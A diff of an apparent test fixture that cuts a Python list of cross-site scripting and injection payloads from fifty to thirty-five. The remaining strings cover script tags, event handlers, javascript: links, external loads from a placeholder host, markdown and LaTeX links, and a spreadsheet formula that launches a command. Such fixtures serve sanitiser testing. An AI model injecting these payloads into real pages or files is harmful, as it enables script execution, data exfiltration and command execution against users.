@@ -1,46 +1,31 @@
-"""Fifty texts that would do something if a page took them for more: set `window.hacked`, call out, or mislead."""
+"""Texts that would do something if a page took them for more: set `window.hacked`, call out, or mislead."""
 
 H = "window.hacked=1"
 OUT = "https://elsewhere.example/x"
 PAYLOADS = [
     f"<script>{H}</script>",
-    f"<SCRIPT SRC={OUT}.js></SCRIPT>",
-    f"<script type=module>{H}</script>",
     f"</script><script>{H}</script>",
     f"<!--<script>{H}-->",
-    f"<scr<script>ipt>{H}</scr</script>ipt>",
     f"<img src=x onerror={H}>",
-    f'<img src="x" onerror="{H}"/>',
     f"<img src={OUT}.png>",
     f"<img/src=`x`/onerror={H}>",
-    f"<image src=x onerror={H}>",
     f"<svg onload={H}>",
-    f"<svg/onload={H}//",
-    f"<svg><script>{H}</script></svg>",
     f"<svg><animate onbegin={H} attributeName=x dur=1s>",
     f"<math><mtext></form><form><mglyph><style></math><img src onerror={H}>",
     f"<body onload={H}>",
     f"<iframe src=javascript:{H}></iframe>",
     f"<iframe srcdoc='<script>parent.{H}</script>'></iframe>",
     f"<object data={OUT}></object>",
-    f"<embed src={OUT}>",
     f"<link rel=stylesheet href={OUT}.css>",
     f"<style>@import '{OUT}.css';</style>",
-    f"<style>body{{background:url({OUT}.png)}}</style>",
     f"<base href={OUT}>",
     f"<meta http-equiv=refresh content='0;url={OUT}'>",
     f"<video><source onerror={H}></video>",
-    f"<audio src=x onerror={H}>",
     f"<input autofocus onfocus={H}>",
-    f"<select autofocus onfocus={H}>",
-    f"<textarea autofocus onfocus={H}>",
     f"<details open ontoggle={H}>",
-    f"<marquee onstart={H}>",
     f"<a href=javascript:{H}>click</a>",
     f"<form action={OUT}><button>send</button></form>",
-    f"<template><script>{H}</script></template>",
     f'"><img src=x onerror={H}>',
-    f"'><svg onload={H}>",
     f"]]><script>{H}</script>",
     f"[click](javascript:{H})",
     f"![x]({OUT}.png)",
@@ -54,4 +39,4 @@ PAYLOADS = [
     "$$\\href{javascript:" + H + "}{x}$$ $\\includegraphics{" + OUT + "}$",
     f'=HYPERLINK("{OUT}";"x") @SUM(1) -1+1|cmd\' /C calc\'!A0',
 ]
-assert len(PAYLOADS) == 50
+assert len(PAYLOADS) == 35
